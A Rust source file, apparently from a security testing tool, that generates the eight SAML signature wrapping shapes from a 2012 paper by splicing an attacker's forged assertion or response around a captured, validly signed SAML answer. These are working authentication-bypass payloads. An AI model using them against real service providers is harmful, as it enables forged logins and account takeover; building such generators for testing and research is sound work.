//! Signature wrapping: what an attacker makes of one signed SAML answer. The eight shapes are those of Somorovsky et al., "On Breaking
//! SAML" (USENIX Security 2012). In each a signature that holds is still there; what it covers is not what would be read.

/// A document made of what was signed.
pub type Shape = fn(&Captured) -> String;

/// An answer that was signed for somebody, taken apart, and what the attacker would like to be read instead.
pub struct Captured {
    whole: String,
    evil: String,
}

impl Captured {
    /// Takes a document with one signature and one assertion apart; `change` is what the attacker would write.
    pub fn new(whole: &str, change: impl Fn(&str) -> String) -> Self {
        let bare = whole.replace(element(whole, "Signature"), "");
        let assertion = renamed(element(&bare, "Assertion"), "evil");
        Self {
            evil: change(&assertion),
            whole: whole.to_owned(),
        }
    }

    fn signature(&self) -> &str {
        element(&self.whole, "Signature")
    }

    /// The response that was signed, without the signature.
    fn bare(&self) -> String {
        self.whole.replace(self.signature(), "")
    }

    /// The assertion, with its signature where it has one.
    fn assertion(&self) -> &str {
        element(&self.whole, "Assertion")
    }

    /// The assertion without its signature.
    fn bare_assertion(&self) -> String {
        self.assertion().replace(self.signature(), "")
    }

    /// A response of another name with the evil assertion in place of the signed one.
    fn evil_response(&self) -> String {
        let bare = self.bare();
        renamed(
            &bare.replace(element(&bare, "Assertion"), &self.evil),
            "evilresponse",
        )
    }

    /// The response with something else in the place of the assertion.
    fn around(&self, inner: &str) -> String {
        self.whole.replace(self.assertion(), inner)
    }

    /// The signature with something in it, at its end.
    fn signature_around(&self, what: &str) -> String {
        at_end(self.signature(), what)
    }
}

/// The shapes that need a signature over the whole response.
pub const OF_RESPONSES: [(&str, Shape); 2] = [
    (
        "the signed response within the signature of another",
        |captured| {
            let signature = captured.signature_around(&captured.bare());
            behind_issuer(&captured.evil_response(), &signature)
        },
    ),
    (
        "the signed response beside its signature in another",
        |captured| {
            let both = format!("{}{}", captured.bare(), captured.signature());
            behind_issuer(&captured.evil_response(), &both)
        },
    ),
];

/// The shapes that need a signature over the assertion alone.
pub const OF_ASSERTIONS: [(&str, Shape); 6] = [
    ("another assertion before the signed one", |captured| {
        captured.around(&format!("{}{}", captured.evil, captured.assertion()))
    }),
    ("the signed assertion within another", |captured| {
        captured.around(&at_end(&captured.evil, captured.assertion()))
    }),
    (
        "the signature in another assertion and the signed one behind",
        |captured| {
            let evil = behind_issuer(&captured.evil, captured.signature());
            captured.around(&format!("{evil}{}", captured.bare_assertion()))
        },
    ),
    (
        "the signed assertion within the signature of another",
        |captured| {
            let signature = captured.signature_around(&captured.bare_assertion());
            captured.around(&behind_issuer(&captured.evil, &signature))
        },
    ),
    ("another assertion among the extensions", |captured| {
        let prefix = prefix_of(&captured.whole);
        let extensions = format!("<{prefix}Extensions>{}</{prefix}Extensions>", captured.evil);
        behind_issuer(&captured.whole, &extensions)
    }),
    ("the signed assertion in an object of the signature", |captured| {
        let prefix = prefix_of(captured.signature());
        let object = format!("<{prefix}Object>{}</{prefix}Object>", captured.bare_assertion());
        captured.around(&behind_issuer(
            &captured.evil,
            &captured.signature_around(&object),
        ))
    }),
];

/// The first element of a name, whatever its prefix, that holds none of the same name.
///
/// # Panics
/// When there is none.
pub fn element<'x>(xml: &'x str, local: &str) -> &'x str {
    let mut tags = xml.match_indices('<').filter_map(|(at, _)| xml.get(at..));
    let begun = tags.find(|tag| name_of(tag).rsplit(':').next() == Some(local));
    let begun = begun.unwrap_or_else(|| panic!("no {local} in {xml}"));
    let end = format!("</{}>", name_of(begun));
    let length = begun.find(&end).expect("its end") + end.len();
    begun.get(..length).expect("up to its end")
}

/// The name of the element that begins here; empty where one ends.
fn name_of(tag: &str) -> &str {
    let is_over = |letter: char| letter.is_ascii_whitespace() || matches!(letter, '>' | '/');
    let name = tag.strip_prefix('<').unwrap_or(tag);
    name.split(is_over).next().unwrap_or_default()
}

/// The prefix of an element, with its colon; empty where it has none.
fn prefix_of(xml: &str) -> String {
    let prefix = name_of(xml).split_once(':');
    prefix.map_or_else(String::new, |(prefix, _)| format!("{prefix}:"))
}

/// An element with another `ID`: its first.
fn renamed(xml: &str, id: &str) -> String {
    let (head, rest) = xml.split_once(" ID=\"").expect("an ID");
    let (_, tail) = rest.split_once('"').expect("its end");
    format!("{head} ID=\"_{id}\"{tail}")
}

/// An element with something behind its issuer, where signatures stand.
fn behind_issuer(xml: &str, what: &str) -> String {
    let issuer = element(xml, "Issuer");
    xml.replacen(issuer, &format!("{issuer}{what}"), 1)
}

/// An element with something at its end.
fn at_end(xml: &str, what: &str) -> String {
    let (head, end) = xml.rsplit_once("</").expect("an end");
    format!("{head}{what}</{end}")
}
